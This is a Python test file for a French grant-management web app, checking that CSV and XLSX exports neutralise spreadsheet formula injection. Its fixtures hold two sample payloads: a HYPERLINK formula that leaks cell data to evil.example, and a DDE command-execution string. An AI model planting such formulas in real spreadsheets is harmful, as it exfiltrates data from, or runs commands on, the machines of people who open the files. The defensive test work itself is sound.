"""Text typed by a porteur or a staff member never becomes a formula in a file the project writes (OWASP CSV
injection): a text cell starting with = + - @, tab or carriage return gets a leading quote, in the staff list
exports, the suivi reports and the SCDL CSV; XLSX text cells are text, and numbers stay numbers (negative ones in
the SCDL CSV; the database refuses negative amounts elsewhere, tests/test_tableur.py covers them in each format)."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from projets.enums import EtatDossier
from projets.factories import (
    CampagneFactory,
    DossierFactory,
    FinanceurFactory,
    LigneFinancementFactory,
    fake_siret,
)
from projets.models import Porteur
from projets.opendata import CHAMPS, csv_en_flux
from projets.services.publication import dossiers_publier
from projets.tableschema import valider_csv
from suivi.enums import FormatRapport, TypeRapport
from tests.helpers.copil_clos import copil_clos
from tests.helpers.rapports import csv_lignes, feuille, generer
from tests.helpers.suivi_annee import ANNEE, annee_suivie

pytestmark = pytest.mark.django_db

FORMULE = '=HYPERLINK("http://evil.example/?x="&A1,"Maison")'
COMMANDE = "+cmd|' /C calc'!A0"


def _file(campagne):
    return f"/instruction/campagnes/{campagne.pk}/"


@pytest.fixture
def dossier_piege():
    campagne = CampagneFactory()
    dossier = DossierFactory(campagne=campagne, etat=EtatDossier.DEPOSE, numero="CV-X-0001", intitule=COMMANDE,
                             porteur__raison_sociale=FORMULE)  # fmt: skip
    LigneFinancementFactory(
        dossier=dossier, financeur=FinanceurFactory(nom="@Financeur"), montant_demande=Decimal("1500.50")
    )
    return dossier


def test_the_staff_csv_export_quotes_formulas_and_keeps_amounts_as_decimals(client, instructeur, dossier_piege):
    client.force_login(instructeur)
    response = client.get(_file(dossier_piege.campagne) + "?export=csv")
    texte = b"".join(response.streaming_content).decode("utf-8-sig")
    entete, ligne = csv.reader(io.StringIO(texte), delimiter=";")
    valeurs = dict(zip(entete, ligne, strict=True))
    assert valeurs["Structure"] == "'" + FORMULE
    assert valeurs["Intitulé"] == "'" + COMMANDE
    assert valeurs["Détail par financeur"].startswith("'@Financeur")
    assert valeurs["Montant demandé (€)"] == "1500,50"


def test_the_staff_xlsx_export_writes_formulas_as_quoted_text_and_amounts_as_numbers(client, instructeur,
                                                                                     dossier_piege):  # fmt: skip
    client.force_login(instructeur)
    response = client.get(_file(dossier_piege.campagne) + "?export=xlsx")
    assert response.status_code == 200
    feuille_ = openpyxl.load_workbook(io.BytesIO(response.content)).active
    entete = [cellule.value for cellule in feuille_[1]]
    cellules = dict(zip(entete, feuille_[2], strict=True))
    for colonne, texte in (("Structure", FORMULE), ("Intitulé", COMMANDE)):
        assert cellules[colonne].data_type == "s" and cellules[colonne].value == "'" + texte
    assert cellules["Montant demandé (€)"].data_type == "n" and cellules["Montant demandé (€)"].value == 1500.5
    assert all(cellule.data_type != "f" for ligne in feuille_.iter_rows() for cellule in ligne)


@pytest.fixture
def annee_piegee():
    annee = annee_suivie()
    termine = annee.dossiers["termine"]
    termine.porteur.raison_sociale = FORMULE
    termine.porteur.save()
    termine.intitule = COMMANDE
    termine.save()
    return annee


@pytest.fixture
def produire(annee_piegee, instructeur, django_capture_on_commit_callbacks):
    def produire(type, format):
        return generer(type=type, format=format, contrat=annee_piegee.contrat, annee=ANNEE, par=instructeur,
                       capture=django_capture_on_commit_callbacks)  # fmt: skip

    return produire


def test_the_suivi_csv_report_quotes_formulas(produire):
    lignes = csv_lignes(produire(TypeRapport.ACTIONS_ETAT, FormatRapport.CSV))
    ligne = next(ligne for ligne in lignes if ligne["Numéro"] == f"CV-{ANNEE}-0001")
    assert ligne["Structure porteuse"] == "'" + FORMULE and ligne["Intitulé de l'action"] == "'" + COMMANDE
    assert ligne["Total voté"] == "11000,00"


@pytest.mark.parametrize("type", list(TypeRapport))
def test_no_suivi_xlsx_report_holds_a_formula(produire, type):
    contenu = produire(type, FormatRapport.XLSX)
    classeur = openpyxl.load_workbook(io.BytesIO(contenu))
    cellules = [cellule for feuille_ in classeur for ligne in feuille_.iter_rows() for cellule in ligne]
    assert not [cellule.coordinate for cellule in cellules if cellule.data_type == "f"]
    textes = [str(cellule.value) for cellule in cellules if cellule.data_type == "s"]
    assert not any(texte.startswith(("=", "+", "-", "@")) for texte in textes)
    assert any(FORMULE in texte or COMMANDE in texte for texte in textes)


def test_the_suivi_actions_xlsx_report_quotes_the_structure_and_keeps_amounts_as_numbers(produire):
    lignes = feuille(produire(TypeRapport.ACTIONS_ETAT, FormatRapport.XLSX), f"Actions {ANNEE}")
    entete, *corps = lignes
    ligne = dict(zip(entete, next(ligne for ligne in corps if ligne[1] == f"CV-{ANNEE}-0001"), strict=True))
    assert ligne["Structure porteuse"] == "'" + FORMULE and ligne["Intitulé de l'action"] == "'" + COMMANDE
    assert ligne["Total voté"] == 11000


SIRET_VILLE, SIRET_MAISON = fake_siret(), fake_siret()


def _scdl(**valeurs):
    ligne = dict.fromkeys(CHAMPS, "")
    ligne |= {
        "nomAttribuant": "Ville", "idAttribuant": SIRET_VILLE, "dateConvention": "2031-03-12",
        "nomBeneficiaire": "Maison", "idBeneficiaire": SIRET_MAISON, "objet": "Contrat de ville 2031 : atelier",
        "montant": "9000.00", "nature": "aide en numéraire", "conditionsVersement": "unique",
        "datesPeriodeVersement": "2031-04-01", "notificationUE": "non", "pourcentageSubvention": "1",
    }  # fmt: skip
    return ligne | valeurs


def test_the_scdl_csv_quotes_a_formula_in_a_name_and_still_validates_with_a_negative_amount():
    lignes = [_scdl(nomBeneficiaire=FORMULE, referenceDecision="-Convention", montant="-150.00"), _scdl()]
    texte = "".join(csv_en_flux(lignes))
    entete, piege, normale = csv.reader(io.StringIO(texte))
    piege, normale = dict(zip(entete, piege, strict=True)), dict(zip(entete, normale, strict=True))
    assert piege["nomBeneficiaire"] == "'" + FORMULE and piege["referenceDecision"] == "'-Convention"
    assert piege["montant"] == "-150.00" and normale == _scdl()
    assert valider_csv(texte) == []


def test_the_published_scdl_csv_quotes_a_porteur_named_like_a_formula(client, instructeur):
    seance = copil_clos()
    for financeur in seance.financeurs.values():
        financeur.siret = fake_siret()
        financeur.save()
    Porteur.objects.filter(pk=seance.porteurs["a"].pk).update(raison_sociale=FORMULE)
    assert dossiers_publier(campagne=seance.campagne, by=instructeur) == 2
    response = client.get("/donnees/subventions.csv")
    texte = b"".join(response.streaming_content).decode("utf-8")
    assert valider_csv(texte) == []
    noms = [ligne["nomBeneficiaire"] for ligne in csv.DictReader(io.StringIO(texte))]
    assert "'" + FORMULE in noms and FORMULE not in noms
